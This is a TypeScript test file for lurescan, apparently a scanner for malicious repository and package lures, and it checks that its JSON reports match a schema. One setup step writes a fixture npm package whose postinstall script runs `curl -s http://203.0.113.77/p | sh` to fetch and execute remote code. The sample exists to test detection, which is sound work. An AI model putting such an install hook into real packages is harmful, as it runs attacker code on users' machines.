/**
 * The JSON report is an interface people parse: every report lurescan writes validates against the schema it ships
 * (schema/report.schema.json, draft 2020-12, strict: no field the schema does not list). Real reports only — every
 * fixture repository (lures and benign look-alikes), an archive holding an archive, a git repository, an npm package
 * from a real Verdaccio, an incomplete scan, and the CLI's own output for a folder and for `lurescan package`. The org
 * report's schema is checked in test/org.test.ts on the reports of a real org scan.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { startVerdaccio, type Verdaccio } from '../scripts/lib/verdaccio.mjs';
import { scan } from '../src/scan.js';
import { renderJson, REPORT_SCHEMA_VERSION } from '../src/reporters/json.js';
import type { ScanResult, ScanTarget } from '../src/types.js';
import { FIXTURES, ROOT, tempDir } from './helpers.js';
import { makeBareRepo } from './git-daemon.js';
import { zipOf, type ZipEntry } from './support/archives.js';
import { validateReport } from './support/report-schema.js';

const RUN_CLI = path.join(ROOT, 'test', 'support', 'run-cli.ts');

function filesOf(dir: string, prefix = ''): ZipEntry[] {
  return readdirSync(dir).flatMap((n) => {
    const p = path.join(dir, n);
    return statSync(p).isDirectory() ? filesOf(p, `${prefix}${n}/`) : [{ name: `${prefix}${n}`, data: readFileSync(p) }];
  });
}

/** The report as a consumer reads it: the JSON text, parsed. */
function reportOf(result: ScanResult): Record<string, unknown> {
  return JSON.parse(renderJson(result)) as Record<string, unknown>;
}

function assertValid(report: unknown, label: string): void {
  assert.deepEqual(validateReport(report), [], `${label}: the report does not match schema/report.schema.json`);
}

describe('the JSON report matches schema/report.schema.json', function () {
  this.timeout(180_000);
  let tmp: ReturnType<typeof tempDir>;

  before(() => {
    tmp = tempDir('lurescan-report-schema-');
  });
  after(() => tmp?.cleanup());

  it('carries schemaVersion first, and the schema pins the same version', () => {
    const schema = JSON.parse(readFileSync(path.join(ROOT, 'schema', 'report.schema.json'), 'utf8')) as { $schema: string; properties: { schemaVersion: { const: number } } };
    assert.equal(schema.$schema, 'https://json-schema.org/draft/2020-12/schema');
    assert.equal(schema.properties.schemaVersion.const, REPORT_SCHEMA_VERSION);
    const json = renderJson({ target: 't', provenance: { source: 't' }, verdict: 'pass', complete: true, findings: [], diagnostics: [], stats: { files: 0, bytes: 0, ms: 0, rules: 0 }, signatures: { version: 'x' }, tool: { name: 'lurescan', version: '0' } });
    assert.deepEqual(Object.keys(JSON.parse(json)).slice(0, 2), ['schemaVersion', 'tool']);
  });

  it('every fixture repository, lure or benign (findings of every rule, their evidence and locations)', async () => {
    const seen = { block: 0, warn: 0, pass: 0, findings: 0 };
    for (const name of readdirSync(path.join(FIXTURES, 'repos'))) {
      const dir = path.join(FIXTURES, 'repos', name);
      if (!statSync(dir).isDirectory()) continue;
      const result = await scan({ kind: 'path', path: dir });
      assertValid(reportOf(result), name);
      seen[result.verdict]++;
      seen.findings += result.findings.length;
    }
    assert.ok(seen.block >= 10 && seen.pass >= 5 && seen.findings >= 50, JSON.stringify(seen));
  });

  it('an archive holding an archive (archiveSha256, container) and a git repository (commit, time zones)', async () => {
    const lure = filesOf(path.join(FIXTURES, 'repos', 'lure-fake-font-task'));
    const zip = path.join(tmp.dir, 'take-home.zip');
    writeFileSync(zip, await zipOf([...filesOf(path.join(FIXTURES, 'repos', 'benign-husky-prisma')), { name: 'assets/setup.zip', data: await zipOf(lure) }]));
    const archived = await scan({ kind: 'archive', path: zip });
    const report = reportOf(archived) as { provenance: { archiveSha256?: string }; findings: { location: { container?: string } }[] };
    assertValid(report, 'archive');
    assert.equal(archived.verdict, 'block');
    assert.match(report.provenance.archiveSha256 ?? '', /^[0-9a-f]{64}$/);
    assert.ok(report.findings.some((f) => f.location.container === 'assets/setup.zip'), 'a finding inside the nested archive');

    makeBareRepo(tmp.dir, 'skill-test', path.join(FIXTURES, 'repos', 'lure-layered-skill-test'));
    const target: ScanTarget = { kind: 'git', url: `file://${path.join(tmp.dir, 'skill-test.git')}`, allowFileProtocol: true };
    const fetched = await scan(target);
    const git = reportOf(fetched) as { provenance: { commit?: string; commitTimezones?: { author?: string } } };
    assertValid(git, 'git');
    assert.match(git.provenance.commit ?? '', /^[0-9a-f]{40}$/);
    assert.match(git.provenance.commitTimezones?.author ?? '', /^[+-]\d{4}$/);
  });

  it('an incomplete scan (diagnostics that say what was not read)', async () => {
    const dir = path.join(tmp.dir, 'broken');
    mkdirSync(path.join(dir, '.vscode'), { recursive: true });
    writeFileSync(path.join(dir, 'package.json'), '{ "name": "x", "scripts": { "postinstall": "node i.js" ');
    writeFileSync(path.join(dir, '.vscode', 'tasks.json'), '{ "tasks": [ { "label": ');
    writeFileSync(path.join(dir, 'big.js'), 'x'.repeat(4096));
    const result = await scan({ kind: 'path', path: dir }, { limits: { maxFileBytes: 1024 } });
    assert.equal(result.complete, false);
    assert.ok(result.diagnostics.length >= 2, result.diagnostics.map((d) => d.code).join(','));
    assertValid(reportOf(result), 'incomplete');
  });

  describe('an npm package (real Verdaccio) and the CLI', () => {
    let reg: Verdaccio;
    let userconfig: string;

    before(async () => {
      reg = await startVerdaccio();
      userconfig = path.join(tmp.dir, 'user.npmrc');
      writeFileSync(userconfig, `registry=${reg.url}\n`);
      const pkg = path.join(tmp.dir, 'pkg');
      mkdirSync(path.join(pkg, 'lib'), { recursive: true });
      writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: 'colour-tokens', version: '1.0.0', main: 'index.js', license: 'MIT', scripts: { postinstall: 'node lib/setup.js' } }));
      writeFileSync(path.join(pkg, 'index.js'), 'module.exports = {};\n');
      writeFileSync(path.join(pkg, 'lib', 'setup.js'), "require('child_process').exec('curl -s http://203.0.113.77/p | sh');\n");
      const rc = path.join(tmp.dir, 'publish.npmrc');
      writeFileSync(rc, `registry=${reg.url}\n//127.0.0.1:${reg.port}/:_authToken=${reg.token}\n`);
      execFileSync('npm', ['publish', pkg, '--registry', reg.url, '--userconfig', rc, '--ignore-scripts'], { stdio: 'pipe', env: { ...process.env, npm_config_userconfig: rc } });
    });
    after(async () => {
      await reg?.stop();
    });

    it('the library: a package tarball (integrity)', async () => {
      const result = await scan({ kind: 'npm', spec: 'colour-tokens@1.0.0', registry: reg.url }, { registry: { npmrcTexts: [] } });
      const report = reportOf(result) as { provenance: { integrity?: string } };
      assertValid(report, 'npm');
      assert.ok(result.findings.some((f) => f.ruleId === 'lifecycle-script'), result.findings.map((f) => f.ruleId).join(','));
      assert.match(report.provenance.integrity ?? '', /^sha512-/);
    });

    for (const [label, args] of [
      ['lurescan <folder> --format json', () => [path.join(FIXTURES, 'repos', 'lure-fake-font-task'), '--format', 'json', '--fail-on', 'never']],
      ['lurescan package <spec> --format json', () => ['package', 'colour-tokens@1.0.0', '--registry', reg.url, '--format', 'json', '--fail-on', 'never']],
    ] as const) {
      it(`the CLI: ${label}`, () => {
        const r = spawnSync(process.execPath, ['--import', 'tsx', RUN_CLI, ...args()], { encoding: 'utf8', cwd: ROOT, env: { ...process.env, npm_config_userconfig: userconfig, NO_COLOR: '1' } });
        assert.equal(r.status, 0, r.stderr);
        const report = JSON.parse(r.stdout) as { schemaVersion: number; verdict: string };
        assertValid(report, label);
        assert.equal(report.schemaVersion, REPORT_SCHEMA_VERSION);
        assert.notEqual(report.verdict, 'pass');
      });
    }
  });

  it('refuses what is not a report: no schemaVersion, an unknown field, a severity that does not exist', async () => {
    const good = reportOf(await scan({ kind: 'path', path: path.join(FIXTURES, 'repos', 'lure-tasks-curl') }));
    assertValid(good, 'lure-tasks-curl');
    const { schemaVersion: _omit, ...noVersion } = good;
    assert.ok(validateReport(noVersion).some((e) => /schemaVersion/.test(e)));
    assert.ok(validateReport({ ...good, extra: 1 }).some((e) => /additional properties/.test(e)));
    const findings = good.findings as Record<string, unknown>[];
    assert.ok(validateReport({ ...good, findings: [{ ...findings[0], severity: 'severe' }] }).some((e) => /findings\/0\/severity/.test(e)));
  });
});
